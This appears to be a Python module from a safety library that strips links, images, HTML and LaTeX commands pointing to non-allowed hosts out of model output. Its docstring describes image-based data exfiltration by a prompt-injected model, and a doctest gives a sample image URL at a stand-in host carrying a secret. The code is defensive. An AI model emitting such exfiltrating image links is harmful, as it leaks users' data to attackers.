"""Takes the ways out of Markdown and HTML: what a renderer would fetch, or a person click.

A model that obeyed a hidden instruction can write an image whose address carries what it knows;
the page that shows the answer fetches it (Rehberger 2023, «ChatGPT plugin: data exfiltration via
images»). So each address that does not lead to an allowed host is taken out of the text, however it
is spelt and whatever marks it up. Rules:

- what leads to allowed hosts, or stays on the page's own host, is left as it is; so is code;
- what is code to most readers keeps its bare addresses, which the others make no links of, but not
  its mark-up, which they would follow;
- an address that goes leaves «(link removed)» or «(image removed)» behind, which no renderer links;
- words that a person reads stay, with the brackets around them: to take those off could turn what
  they held into a list, a heading or a fence.

Two passes: marked-up addresses on the text as it stands, then bare ones on the text as readers
decode it. Both are linear in the length of the text. What is done about each mark stands here
together, because the order in which one pattern finds them is part of it.
"""

from __future__ import annotations

import re
from collections import deque
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from typing import Final

from promptkit.safety.finding import Cleaned, Finding, check_text
from promptkit.safety.markup import tags
from promptkit.safety.markup.addresses import (
    UNSEEN,
    Allowed,
    allowed_hosts,
    decoded,
    leads,
    looks_dangerous,
    view,
)
from promptkit.safety.markup.bare import bare_addresses
from promptkit.safety.markup.coded import code_ranges, nearly_code
from promptkit.safety.markup.edits import Edit, Round

_TRIGGER: Final = re.compile(
    rf"[<\[\]@\\&%:{{\uff1c\ufe64\uff1a{UNSEEN}]|//|www|\.[^\W\d_]{{2}}", re.IGNORECASE
)
"""Without one of these there is nothing to fetch or to click."""

_STRUCTURE: Final = re.compile(
    rf"(?P<open>!?)\[+"
    rf"|(?P<inline>\][{UNSEEN}]*\()"
    rf"|(?P<defined>\][{UNSEEN}]*:)"
    r"|(?P<close>\])"
    rf"|(?P<tag>[<\uff1c\ufe64](?=[{UNSEEN}]*+/?[{UNSEEN}]*+[A-Za-z!?]))"
    r"|\\(?P<command>href|url|includegraphics|htmlStyle|htmlData|style|special|input|include)\s*"
    r"(?:\[[^\[\]{}]{0,200}\]\s*)?\{"
    r"|(?P<attributes>\{)"
)
_SPACE: Final = rf"[\s{UNSEEN}]*+"
_GAP: Final = re.compile(rf"(?:[ \t{UNSEEN}]|\r?\n(?:[ \t]*+>)*+(?![ \t]*\r?\n))*+")
_ANGLE: Final = re.compile(r"<((?:[^<>\\\n]|\\.){0,4096}+)>")
_RAW: Final = re.compile(
    r"(?:[^\s()\\<\ue000]|\\[^\s\ue000]|\\(?=\s)|\((?:[^\s()\\\ue000]|\\[^\s\ue000])*+\))*+"
)
_TO_BRACKET: Final = re.compile(r"[^\s\]\ue000]{0,4096}+")
_TITLE: Final = re.compile(
    r"(?:\s++(?:\"(?:[^\"\\\ue000]|\\.)*+\"|'(?:[^'\\\ue000]|\\.)*+'|\((?:[^()\\\ue000]|\\.)*+\)))?+\s*+\)",
    re.DOTALL,
)
_LOOSE: Final = re.compile(r"[^()\ue000]{0,512}")
_BRACES: Final = re.compile(r"[^{}\ue000]{0,4096}+")
_ATTRIBUTES: Final = re.compile(
    r"\{:?[^{}\n]{0,500}?(?<![\w-])(?:on[a-z]{3,}|src|srcset|href|style|poster|background|action|ping)\s*=\s*[\"'/\w\\]"
    r"[^{}\n]{0,500}\}",
    re.IGNORECASE,
)
"""Attribute lists of kramdown, Pandoc and python-markdown."""

_MOST_ROUNDS: Final = 8
"""What is taken out may change how the rest is read, so the result is read again until it stays."""

_DEEPEST: Final = 1_000
"""Open brackets that are remembered; deeper ones are still neutralised, as links."""

FILLER: Final = "\ue000"
"""Stands for what is settled: code, and addresses that were judged. No pattern goes over it."""


@dataclass(slots=True)
class _Pass:
    """What the first pass found: edits, and stretches that are settled."""

    edits: list[Edit] = field(default_factory=list)
    settled: list[tuple[int, int]] = field(default_factory=list)


def neutralize_markdown(text: str, allow: Iterable[str] = ()) -> Cleaned:
    """Take out of Markdown or HTML what could carry data to a host that is not allowed.

    Images, links, reference definitions, autolinks, bare addresses, HTML that fetches, runs or
    submits, LaTeX and diagram links: an address is kept only if it leads to an allowed host or one
    of its subdomains, or is relative. Text of links stays readable; benign Markdown stays as it is,
    byte for byte; doing it twice changes nothing more.

    Code that only some readers take for code is not left alone: indented code at the very beginning
    (whoever strips the text makes a paragraph of it), and mark-up in a fence that is never closed
    (Python-Markdown wants it closed). HTML within a comment goes as well, for a comment may end
    sooner than it seems.

    What it does not cover: relative addresses (they stay on the host of the page), redirects on
    allowed hosts, host names and e-mail addresses, «mailto:» before them or not, that stand there
    without anything that could carry data, renderers that do not know fenced code, and code that
    a person copies and runs.

    Args:
        text: Markdown, HTML or a mixture, such as a model's answer.
        allow: Hosts that may be linked to, with their subdomains: "example.com".

    Returns:
        The text, and a finding for each thing taken out; its `payload` is the decoded address.

    Raises:
        TypeError: If `text` is no str, or `allow` is one.
        OptionError: If an entry of `allow` names no host.

    >>> neutralize_markdown("Hi ![a](https://evil.test/?d=secret)").text
    'Hi [a] (image removed)'
    >>> neutralize_markdown("See [it](https://example.com/a).", allow=("example.com",)).text
    'See [it](https://example.com/a).'
    """
    check_text(text)
    allowed = allowed_hosts(allow)
    if not _TRIGGER.search(text):
        return Cleaned(text)
    rounds: list[Round] = []
    findings: list[Finding] = []
    for _ in range(_MOST_ROUNDS):
        edits = _edits(text, allowed)
        if not edits:
            break
        findings += [_finding(edit, rounds) for edit in edits if edit.kind]
        rounds.append(Round(edits))
        text = rounds[-1].applied(text)
    return Cleaned(text, tuple(sorted(findings, key=lambda finding: finding.span)))


def _edits(text: str, allowed: Allowed) -> list[Edit]:
    """What is to be changed in a text, in order."""
    live = _masked(text, code_ranges(text))
    marked = _marked_up(live, allowed)
    quiet = [*((e.start, e.end) for e in marked.edits), *marked.settled, *nearly_code(text)]
    rest = _masked(live, quiet)
    edits: list[Edit] = []
    for edit in sorted([*marked.edits, *_bare(rest, allowed)]):
        if not edits or edit.start >= edits[-1].end:
            edits.append(edit)
    return edits


def _masked(text: str, ranges: Iterable[tuple[int, int]]) -> str:
    """The text, as long as it was, with ranges filled."""
    pieces, place = [], 0
    for start, end in sorted(ranges):
        if end <= place:
            continue
        pieces += [text[place : max(start, place)], FILLER * (end - max(start, place))]
        place = end
    return "".join([*pieces, text[place:]]) if pieces else text


def _finding(edit: Edit, rounds: list[Round]) -> Finding:
    """A finding, with its place in the text before all rounds."""
    start, end = edit.place
    for earlier in reversed(rounds):
        start, end = earlier.before(start), earlier.before(end, is_end=True)
    return Finding(kind=edit.kind, span=(start, end), action="rewrite", payload=edit.address)


def _bare(text: str, allowed: Allowed) -> Iterator[Edit]:
    """Addresses that no mark-up announces, on the text as readers decode it."""
    seen = view(text)
    for start, end, kind in bare_addresses(seen.text, allowed):
        yield _taken_out(text, seen.origin(start), seen.origin_end(end), kind, seen.text[start:end])
    if seen.text != text:  # what shows nothing may also part what it stands between
        for start, end, kind in bare_addresses(text, allowed):
            yield _taken_out(text, start, end, kind, text[start:end])


def _taken_out(text: str, start: int, end: int, kind: str, address: str) -> Edit:
    lead = " " if start and text[start - 1] in "])" else ""
    return Edit(start, end, f"{lead}(link removed)", kind, address, (start, end))


def _marked_up(text: str, allowed: Allowed) -> _Pass:
    """Addresses in brackets, tags, definitions and commands."""
    found = _Pass()
    brackets: deque[tuple[int, bool]] = deque(maxlen=_DEEPEST)
    acting = tags.last_acting(text) if "=" in text else -1
    place = 0
    while match := _STRUCTURE.search(text, place):
        place = match.end()
        group = match.lastgroup
        if group == "open":
            brackets.extend(_opened(match))
        elif group == "close":
            if brackets:
                brackets.pop()
        elif group == "inline":
            opened = brackets.pop() if brackets else None
            place = _inline(text, match, opened, allowed, found)
        elif group == "defined":
            opened = brackets.pop() if brackets else None
            place = _defined(text, match, allowed, found)
        elif group == "tag":
            place = _tag(text, match.start(), allowed, acting, found)
        elif group == "command":
            place = _command(text, match, allowed, found)
        elif group == "attributes":
            place = _attributes(text, match, found)
    return found


def _opened(match: re.Match[str]) -> Iterator[tuple[int, bool]]:
    """Each bracket of a run; an exclamation mark belongs to the first."""
    start, end = match.span()
    if match["open"]:
        yield start, True
        start += 2
    yield from ((i, False) for i in range(max(start, end - _DEEPEST), end))


def _inline(
    text: str,
    match: re.Match[str],
    opened: tuple[int, bool] | None,
    allowed: Allowed,
    found: _Pass,
) -> int:
    """«](destination "title")»."""
    begins = _GAP.match(text, match.end()).end()  # type: ignore[union-attr]
    angle = _ANGLE.match(text, begins)
    if angle:
        address, end = angle[1], angle.end()
    else:
        raw = _RAW.match(text, begins)
        address, end = raw.group(), raw.end()  # type: ignore[union-attr]
    closed = _TITLE.match(text, end)
    leading = leads(address, allowed)
    if angle and leading == "relative" and tags.is_active(text, angle.start()):
        leading = "blocked"  # who sees no link here sees a tag
    if closed is None and leading != "blocked":
        loose = _LOOSE.match(text, match.end()).group()  # type: ignore[union-attr]
        whole = re.sub(r"[\s<]", "", loose)
        if looks_dangerous(whole) and leads(whole, allowed) == "blocked":
            leading = "blocked"
            end = match.end() + len(loose)
    if leading != "blocked":
        if opened and closed and text[end] == ")":
            found.settled.append((end, end + 1))  # what follows is no part of the address
        return match.end()
    is_image = bool(opened and opened[1])
    kind = "image" if is_image else "link"
    ends = closed.end() if closed else max(end, match.end())
    if is_image and opened:
        found.edits.append(Edit(opened[0], opened[0] + 1, "", "", "", (0, 0)))
    place = (opened[0] if opened else match.start(), ends)
    shown = f"] ({kind} removed)" if closed else f"] ({kind} removed) "
    found.edits.append(Edit(match.start(), ends, shown, kind, decoded(address), place))
    return ends


def _defined(text: str, match: re.Match[str], allowed: Allowed, found: _Pass) -> int:
    """«]: destination "title"», wherever the line begins."""
    begins = _GAP.match(text, match.end()).end()  # type: ignore[union-attr]
    angle = _ANGLE.match(text, begins)
    raw = angle or _TO_BRACKET.match(text, begins + text.startswith("<", begins))
    address = angle[1] if angle else raw.group()  # type: ignore[union-attr]
    start, end = raw.span()  # type: ignore[union-attr]
    if leads(address, allowed) != "blocked" or re.fullmatch(r"[\w.+-]+:", address):
        return match.end()  # the latter is a word with a colon
    lead = " " if start == match.end() else ""
    span = (start, end)
    found.edits.append(Edit(*span, f"{lead}(link removed)", "reference", decoded(address), span))
    return end


def _tag(text: str, place: int, allowed: Allowed, acting: int, found: _Pass) -> int:
    tag = tags.judge(text, place, allowed, acting)
    span = (place, tag.end)
    if not tag.kind:
        return place + 1  # where HTML is shown as text, what is inside is Markdown
    if not tag.is_whole:
        found.edits.append(Edit(place, place + 1, "&lt;", tag.kind, "", span))
        return place + 1
    named = {"image": "image", "link": "link", "autolink": "link", "media": "media"}
    lead = " " if place and text[place - 1] in "])" else ""
    shown = f"{lead}({named.get(tag.kind, 'HTML')} removed)"
    found.edits.append(Edit(*span, shown, tag.kind, tag.address, span))
    return tag.end


def _command(text: str, match: re.Match[str], allowed: Allowed, found: _Pass) -> int:
    r"""«\href{address}» and its like."""
    inside = _BRACES.match(text, match.end())
    address = inside.group().strip()  # type: ignore[union-attr]
    end = inside.end()  # type: ignore[union-attr]
    is_style = match["command"] in ("htmlStyle", "htmlData", "style", "special")
    if is_style:
        bad = bool(re.search(r"[(\\@/&]|url", address, re.IGNORECASE))
    else:
        bad = leads(address, allowed) == "blocked" or bool(re.search(r"#\d|^\s*\\", address))
    if not bad:
        return match.end()
    if end < len(text) and text[end] == "}":
        end += 1
    span = (match.start(), end)
    found.edits.append(Edit(*span, "(link removed)", "latex", decoded(address), span))
    return end


def _attributes(text: str, match: re.Match[str], found: _Pass) -> int:
    """«{: onclick="…" }»."""
    whole = _ATTRIBUTES.match(text, match.start())
    if whole is None:
        return match.end()
    found.edits.append(Edit(*whole.span(), " (attributes removed)", "attributes", "", whole.span()))
    return whole.end()
